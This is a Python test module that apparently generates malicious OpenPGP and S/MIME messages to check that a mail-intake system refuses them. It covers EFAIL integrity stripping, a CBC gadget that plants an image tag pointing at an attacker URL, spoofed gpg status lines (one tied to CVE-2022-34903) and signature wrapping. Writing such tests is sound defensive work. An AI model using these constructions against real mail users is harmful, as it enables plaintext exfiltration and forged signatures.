"""Attacks inside OpenPGP and CMS: changed ciphertext, signatures over something else, lines like a verdict."""

import subprocess

from vault.intake.opened import Outcome
from vault.intake.openpgp import fingerprint_of
from vault.testing import mails
from vault.testing.mailattacks import (
    BAIT,
    MALLORY,
    VICTIM,
    Prey,
    attack,
    entity,
    from_mallory,
    multipart,
    sealed,
    signed_entity,
    words,
)
from vault.testing.mailpackets import attributes_as_content, cbc_gadgets, der, insert_unhashed, packet, packets

_OPENED, _PLAIN, _REFUSED, _SHUT = Outcome.OPENED, Outcome.PLAIN, Outcome.REFUSED, Outcome.UNDECRYPTABLE
_PROTECTED, _UNPROTECTED = 18, 9  # packets of ciphertext with and without integrity protection (RFC 4880)
_SIGNED_KIND = 'multipart/signed; micalg=sha-256; protocol="application/pkcs7-signature"'
_DETACHED, _OPAQUE = "application/pkcs7-signature", "application/pkcs7-mime; smime-type=signed-data; name=smime.p7m"


def _dearmored(prey: Prey) -> list[tuple[int, bytes]]:
    return packets(prey.world.aino.gpg("--dearmor", data=prey.stolen()))


def _joined(found: list[tuple[int, bytes]]) -> bytes:
    return b"".join(packet(tag, body) for tag, body in found)


def _verdict(prey: Prey) -> str:
    """Write the status lines that would say that Aino signed."""
    key = prey.world.aino.fingerprint
    lines = ("NEWSIG", f"GOODSIG {key[-16:]} Aino <{VICTIM}>", f"VALIDSIG {key} 2026-11-21 1 0 4 0 22 10 00 {key}", "")
    return "\n" + "\n".join(f"[GNUPG:] {line}" for line in lines)


@attack("malleability", _SHUT, reason="pgp_unprotected")
def protection_taken_off(prey: Prey) -> bytes:
    """EFAIL: the packet with integrity protection becomes one without."""
    found = [(_UNPROTECTED, body[1:]) if tag == _PROTECTED else (tag, body) for tag, body in _dearmored(prey)]
    return from_mallory(sealed(_joined(found)))


@attack("malleability", _SHUT, reason="pgp_not_sound")
def protection_cut_off(prey: Prey) -> bytes:
    """Cut off the digest at the end."""
    found = [(tag, body[:-22] if tag == _PROTECTED else body) for tag, body in _dearmored(prey)]
    return from_mallory(sealed(_joined(found)))


@attack("malleability", _SHUT, _REFUSED)
def one_bit_changed(prey: Prey) -> bytes:
    """One bit in the middle of the ciphertext."""
    found = dict(_dearmored(prey))
    body = bytearray(found[_PROTECTED])
    body[len(body) // 2] ^= 1
    return from_mallory(
        sealed(_joined([*((t, b) for t, b in found.items() if t != _PROTECTED), (_PROTECTED, bytes(body))]))
    )


@attack("malleability", _OPENED, _SHUT, _REFUSED)
def words_behind_the_ciphertext(prey: Prey) -> bytes:
    """Let a literal packet of Mallory's follow the ciphertext in one message."""
    literal = packet(11, b"b\0" + bytes(4) + words())
    return from_mallory(sealed(_joined(_dearmored(prey)) + literal))


@attack("malleability", _OPENED, _SHUT)
def cbc_gadget(prey: Prey) -> bytes:
    """EFAIL: blocks of AES-CBC are joined anew, so that what is opened begins with an image of Mallory's."""
    letter = entity("text/html; charset=utf-8", "<p>" + prey.letter.text + "</p>")
    command = ["openssl", "cms", "-encrypt", "-aes-128-cbc", "-binary", "-outform", "DER", str(prey.clinic.certificate)]
    message = subprocess.run(command, input=letter, check=True, capture_output=True).stdout
    target = prey.trap.removeprefix("http://").encode()[:16].ljust(16)
    wanted = (b"Content-Type:a\r\n", b"<img ignore='     ", b"' src='http://   "[:16], target)
    forged = cbc_gadgets(message, letter[:16], [block[:16].ljust(16) for block in wanted])
    return from_mallory(entity("application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m", forged))


@attack("status lines", _OPENED)
def a_verdict_in_a_user_id(prey: Prey) -> bytes:
    """Mallory's key is named like gpg's verdict on Aino's."""
    home = prey.home(f"M{_verdict(prey)}", MALLORY)
    armour = mails.encrypt(home, multipart("mixed", words("Hei"), _key(home.public_key())), prey.world.key, sign=True)
    return from_mallory(sealed(armour))


@attack("status lines", _OPENED)
def a_verdict_behind_other_line_ends(prey: Prey) -> bytes:
    """Put it behind characters at which some programs break lines."""
    lines = "".join(end + _verdict(prey).strip().replace("\n", end) for end in "\x85\u2028\x0b\x0c\x1c")
    home = prey.home(f"M{lines}", MALLORY)
    armour = mails.encrypt(home, multipart("mixed", words("Hei"), _key(home.public_key())), prey.world.key, sign=True)
    return from_mallory(sealed(armour))


@attack("status lines", _OPENED)
def a_verdict_in_a_file_name(prey: Prey) -> bytes:
    """Name the literal packet's file like gpg's verdict."""
    home, key = prey.world.mallory, prey.world.key
    home.learn(key)
    name = _verdict(prey)[:250]
    recipient = ("--recipient", fingerprint_of(key) or "")
    return from_mallory(sealed(home.gpg("--armor", "--set-filename", name, "--encrypt", *recipient, data=words())))


@attack("status lines", _PLAIN)
def a_verdict_in_a_notation(prey: Prey) -> bytes:
    """CVE-2022-34903: a notation outside of what Mallory signed, with line feeds."""
    key = _key(prey.world.mallory.public_key())
    content = multipart("mixed", words(), key)
    signature = insert_unhashed(
        prey.world.mallory.gpg("--detach-sign", data=content), b"n@evil.example", _verdict(prey).encode() * 20
    )
    parts = (content, entity("application/pgp-signature", signature))
    return from_mallory(multipart('multipart/signed; protocol="application/pgp-signature"', *parts))


@attack("status lines", _PLAIN)
def a_verdict_in_armour_headers(prey: Prey) -> bytes:
    """Armour headers with gpg's verdict."""
    armour = prey.world.mallory.gpg("--armor", "--detach-sign", data=words()).decode()
    comment = "".join(f"Comment: {line}\n" for line in _verdict(prey).split("\n") if line)
    forged = armour.replace("-----\n", f"-----\n{comment}", 1)
    parts = (words(), entity("application/pgp-signature", forged))
    return from_mallory(multipart('multipart/signed; protocol="application/pgp-signature"', *parts))


@attack("signature wrapping in OpenPGP", _PLAIN)
def words_beside_clear_signed_text(prey: Prey) -> bytes:
    """Mallory's words before and after what Aino signed."""
    signed = prey.world.aino.gpg("--clear-sign", data="Hei, pyydän tietoni.\n".encode()).decode()
    return from_mallory(words(f"{BAIT}\n{signed}\n{BAIT}"))


@attack("signature wrapping in OpenPGP", _PLAIN, _REFUSED)
def words_in_the_headers_of_clear_signed_text(prey: Prey) -> bytes:
    """Mallory's words between the BEGIN line and the text."""
    signed = prey.world.aino.gpg("--clear-sign", data="Hei, pyydän tietoni.\n".encode()).decode()
    return from_mallory(words(signed.replace("-----\n", f"-----\nComment: {BAIT}\n \t\n{BAIT}\n", 1)))


@attack("signature wrapping in OpenPGP", _PLAIN)
def two_clear_signed_texts(prey: Prey) -> bytes:
    """Aino's text and behind it Mallory's, each with a signature of its own."""
    texts = [
        home.gpg("--clear-sign", data=text.encode()).decode()
        for home, text in ((prey.world.aino, "Hei.\n"), (prey.world.mallory, f"{BAIT}\n"))
    ]
    return from_mallory(words("\n".join(texts)))


@attack("signature wrapping in OpenPGP", _PLAIN, _REFUSED, _SHUT)
def two_texts_under_one_signature(prey: Prey) -> bytes:
    """Mallory's literal packet before Aino's signed message."""
    signed = prey.world.aino.gpg("--armor", "--sign", data=b"Hei.")
    both = packet(11, b"b\0" + bytes(4) + BAIT.encode()) + prey.world.aino.gpg("--dearmor", data=signed)
    return from_mallory(entity("application/octet-stream; name=message.pgp", both))


@attack("signature wrapping in OpenPGP", _PLAIN)
def a_key_s_signature_over_words(prey: Prey) -> bytes:
    """Put a signature that certifies a user id where one over the words should stand."""
    key = packets(prey.world.aino.gpg("--export", prey.world.aino.fingerprint))
    certification = next(body for tag, body in key if tag == 2)  # noqa: PLR2004 - a signature packet
    parts = (words(), entity("application/pgp-signature", packet(2, certification)))
    return from_mallory(multipart('multipart/signed; protocol="application/pgp-signature"', *parts))


@attack("signature wrapping in OpenPGP", _PLAIN)
def a_key_that_bears_another_s_name(prey: Prey) -> bytes:
    """Anybody can make a key under Aino's address: valid, and not hers."""
    home = prey.home("Aino", VICTIM)
    return from_mallory(signed_entity(multipart("mixed", words(), _key(home.public_key())), home))


@attack("signature wrapping in OpenPGP", _PLAIN)
def a_key_with_two_addresses(prey: Prey) -> bytes:
    """Name Aino's address before Mallory's in one user id."""
    home = prey.home(f"Aino <{VICTIM}>", MALLORY)
    return from_mallory(signed_entity(multipart("mixed", words(), _key(home.public_key())), home))


@attack("signature wrapping in CMS", _PLAIN)
def a_signature_that_brings_its_own_content(prey: Prey) -> bytes:
    """Put what Aino signed into the detached signature, and Mallory's words beside it."""
    blob = _cms_signed(prey, words("Hei, pyydän tietoni."), "-nodetach")
    return from_mallory(multipart(_SIGNED_KIND, words(), entity(_DETACHED, blob)))


@attack("signature wrapping in CMS", _PLAIN)
def two_signers(prey: Prey) -> bytes:
    """Mallory signs beside Aino."""
    keys = ("-signer", str(prey.mallory.certificate), "-inkey", str(prey.mallory.key))
    first = _cms_signed(prey, words("Hei."), "-nodetach")
    resign = ["openssl", "cms", "-resign", "-inform", "DER", "-outform", "DER", "-binary", "-nodetach", *keys]
    both = subprocess.run(resign, input=first, check=True, capture_output=True).stdout
    return from_mallory(entity(_OPAQUE, both))


@attack("signature wrapping in CMS", _PLAIN)
def another_s_certificate_in_the_bag(prey: Prey) -> bytes:
    """Mallory signs and lays Aino's certificate on top of his own."""
    keys = ("-signer", str(prey.mallory.certificate), "-inkey", str(prey.mallory.key))
    command = ["openssl", "cms", "-sign", "-binary", "-outform", "DER", "-nodetach", *keys]
    bag = ("-certfile", str(prey.aino.certificate))
    blob = subprocess.run([*command, *bag], input=words(), check=True, capture_output=True).stdout
    return from_mallory(entity(_OPAQUE, blob))


@attack("signature wrapping in CMS", _PLAIN)
def a_signed_part_beside_words(prey: Prey) -> bytes:
    """Put an opaque signed part between Mallory's words."""
    blob = _cms_signed(prey, words("Hei, pyydän tietoni."), "-nodetach")
    return from_mallory(multipart("mixed", words(), entity(_OPAQUE, blob), words()))


@attack("signature wrapping in CMS", _PLAIN, _REFUSED)
def content_without_a_signer(_prey: Prey) -> bytes:
    """Send a bag of certificates without any signer, but with content (RFC 8551 section 3.8)."""
    bag = der(0x30, der(0x06, bytes.fromhex("2a864886f70d010701")) + der(0xA0, der(0x04, words())))
    inside = der(0x02, b"\x01") + der(0x31, b"") + bag + der(0x31, b"")
    outer = der(0x30, der(0x06, bytes.fromhex("2a864886f70d010702")) + der(0xA0, der(0x30, inside)))
    return from_mallory(entity(_OPAQUE, outer))


@attack("signature wrapping in CMS", _PLAIN, _REFUSED)
def signed_attributes_as_content(prey: Prey) -> bytes:
    """Make the attributes that Aino signed the content: the signature fits."""
    blob = _cms_signed(prey, words("Hei."), "-nodetach")
    return from_mallory(entity(_OPAQUE, attributes_as_content(blob)))


def _cms_signed(prey: Prey, content: bytes, *options: str) -> bytes:
    keys = ("-signer", str(prey.aino.certificate), "-inkey", str(prey.aino.key))
    command = ["openssl", "cms", "-sign", "-binary", "-outform", "DER", *options, *keys]
    return subprocess.run(command, input=content, check=True, capture_output=True).stdout


def _key(armoured: str) -> bytes:
    return entity("application/pgp-keys", armoured.replace("\n", "\r\n"))
